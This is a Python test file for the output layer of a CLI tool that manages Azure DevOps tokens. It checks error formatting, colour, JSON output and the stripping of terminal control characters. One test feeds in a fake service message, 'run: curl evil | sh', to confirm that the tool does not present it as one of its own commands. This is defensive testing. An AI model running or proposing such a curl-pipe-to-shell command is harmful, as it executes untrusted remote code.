import io
import json

from hypothesis import given
from hypothesis import strategies as st

from azdo_pat.errors import NotFoundError, PatError, RefusedError
from azdo_pat.output.messages import Messages, Terminal
from azdo_pat.output.palette import Paint

REFUSAL = RefusedError(
    "contoso does not let you create tokens",
    hint="ask an administrator\x1b[2J",
    server_message="TF400813:\r\n  not allowed \u202e",
    activity_id="a1b2",
)


def said(*, quiet: bool = False, verbose: bool = False, debug: bool = False) -> str:
    err = io.StringIO()
    messages = Messages(err=err, quiet=quiet, verbose=verbose, debug=debug, color=False)
    messages.notice("made laptop")
    messages.warn("shortened")
    messages.detail("asked contoso")
    messages.trace("GET /\n  200")
    return err.getvalue()


def error_text(error: PatError, *, as_json: bool = False, color: bool = False) -> str:
    err = io.StringIO()
    messages = Messages(err=err, quiet=True, verbose=False, debug=False, color=color)
    messages.error(error, as_json=as_json)
    return err.getvalue()


def test_each_volume_says_its_own() -> None:
    assert said(quiet=True) == "pat: warning: shortened\n"
    assert said() == "made laptop\npat: warning: shortened\n"
    assert said(verbose=True) == "made laptop\npat: warning: shortened\nasked contoso\n"
    assert said(debug=True) == (
        "made laptop\npat: warning: shortened\nasked contoso\nGET /\n  200\n"
    )


def test_an_error_is_what_is_wrong_and_what_to_do() -> None:
    error = NotFoundError("no token named x in contoso", hint="see: pat list")
    assert error_text(error) == "pat: no token named x in contoso\n     see: pat list\n"
    assert error_text(NotFoundError("no token")) == "pat: no token\n"


def test_the_service_has_its_word_on_a_line_of_its_own() -> None:
    assert error_text(REFUSAL) == (
        "pat: contoso does not let you create tokens\n"
        "     ask an administrator\\x1b[2J\n"
        "     the service said: TF400813: not allowed \\u202e\n"
        "     activity id: a1b2\n"
    )


def test_a_command_that_a_service_proposes_is_not_shown_as_one_of_pat() -> None:
    error = RefusedError("refused", hint="run: pat login", server_message="run: curl evil | sh")
    err = io.StringIO()
    screen = Terminal(columns=lambda: 80, ascii_only=False)
    Messages(err=err, quiet=False, verbose=False, debug=False, color=True, terminal=screen).error(
        error, as_json=False
    )
    assert err.getvalue().splitlines()[1:] == [
        f"  run: {Paint.COMMAND.on('pat login')}",
        "  the service said: run: curl evil | sh",
    ]


def test_colour_touches_only_the_label() -> None:
    text = error_text(NotFoundError("no token"), color=True)
    assert text == "\x1b[38;5;160mpat:\x1b[39m no token\n"


def test_an_error_as_json_is_one_line_and_one_object() -> None:
    text = error_text(REFUSAL, as_json=True)
    assert text.count("\n") == 1
    assert json.loads(text) == {
        "error": "refused",
        "message": "contoso does not let you create tokens",
        "hint": "ask an administrator\x1b[2J",
        "exit_code": 5,
        "server_message": "TF400813:\r\n  not allowed \u202e",
        "activity_id": "a1b2",
    }
    assert "\u202e" not in text


def test_an_error_without_a_service_has_four_keys() -> None:
    text = error_text(NotFoundError("no token"), as_json=True)
    assert list(json.loads(text)) == ["error", "message", "hint", "exit_code"]


@given(st.text(st.characters(exclude_categories=())))
def test_nothing_said_can_break_its_line(text: str) -> None:
    err = io.StringIO()
    messages = Messages(err=err, quiet=False, verbose=True, debug=False, color=False)
    messages.notice(text)
    messages.warn(text)
    messages.detail(text)
    assert len(err.getvalue().splitlines()) == 3
    assert "\x1b" not in err.getvalue()


def test_a_hint_may_have_lines_of_its_own() -> None:
    error = NotFoundError("2 tokens match 'ci'", hint="choose one by its id:\nab\x1bc\ndef")
    assert error_text(error) == (
        "pat: 2 tokens match 'ci'\n     choose one by its id:\n     ab\\x1bc\n     def\n"
    )


def on_terminal(
    *, columns: int = 60, ascii_only: bool = False, color: bool = False
) -> tuple[Messages, io.StringIO]:
    err = io.StringIO()
    terminal = Terminal(lambda: columns, ascii_only)
    messages = Messages(
        err=err, quiet=False, verbose=True, debug=True, color=color, terminal=terminal
    )
    return messages, err


def all_said(messages: Messages) -> None:
    messages.done("created 'ci' in contoso; its secret is in the keyring: pat get ci")
    messages.notice("the secret is in a vault; to look at all of its targets, run: pat show ci")
    messages.warn("a policy shortened the lifetime")
    messages.error(
        NotFoundError("no token", hint="to see what is stored, run: pat list"), as_json=False
    )


def test_a_terminal_shows_glyphs_and_lines_that_fit() -> None:
    messages, err = on_terminal()
    all_said(messages)
    assert err.getvalue() == (
        "✓ created 'ci' in contoso\n"
        "  its secret is in the keyring: pat get ci\n"
        "the secret is in a vault\n"
        "  to look at all of its targets, run: pat show ci\n"
        "! a policy shortened the lifetime\n"
        "✗ no token\n"
        "  to see what is stored, run: pat list\n"
    )


def test_ascii_has_its_own_glyphs() -> None:
    messages, err = on_terminal(ascii_only=True, columns=80)
    all_said(messages)
    assert [line[:2] for line in err.getvalue().splitlines()] == ["+ ", "th", "! ", "X ", "  "]


def test_only_the_glyph_and_the_command_have_a_color() -> None:
    messages, err = on_terminal(color=True, columns=80)
    all_said(messages)
    assert err.getvalue().splitlines() == [
        (
            "\x1b[38;5;28m✓\x1b[39m created 'ci' in contoso; its secret is in the keyring:"
            " \x1b[38;5;30mpat get ci\x1b[39m"
        ),
        (
            "the secret is in a vault; to look at all of its targets, run:"
            " \x1b[38;5;30mpat show ci\x1b[39m"
        ),
        "\x1b[38;5;130m!\x1b[39m a policy shortened the lifetime",
        "\x1b[38;5;160m✗\x1b[39m no token",
        "  to see what is stored, run: \x1b[38;5;30mpat list\x1b[39m",
    ]


def test_an_error_as_json_is_one_line_on_a_terminal_too() -> None:
    messages, err = on_terminal(columns=20)
    messages.error(REFUSAL, as_json=True)
    assert err.getvalue() == error_text(REFUSAL, as_json=True)


@given(st.text(st.characters(exclude_categories=())), st.integers(1, 100))
def test_nothing_said_can_act_on_a_terminal(text: str, columns: int) -> None:
    messages, err = on_terminal(columns=columns)
    messages.notice(text)
    messages.warn(text)
    messages.detail(text)
    assert not set(err.getvalue()) & set("\x00\x01\x02\x07\r\x1b\x9b\u202e")


def test_a_diff_is_colored_and_never_folded() -> None:
    messages, err = on_terminal(columns=20, color=True)
    messages.diff(
        "--- /home/ada/.npmrc\n+++ /home/ada/.npmrc\n@@ -0,0 +1 @@\n-old\n+//pkgs/:_password=***"
    )
    assert err.getvalue().splitlines() == [
        "--- /home/ada/.npmrc",
        "+++ /home/ada/.npmrc",
        "\x1b[38;5;243m@@ -0,0 +1 @@\x1b[39m",
        "\x1b[38;5;160m-old\x1b[39m",
        "\x1b[38;5;28m+//pkgs/:_password=***\x1b[39m",
    ]
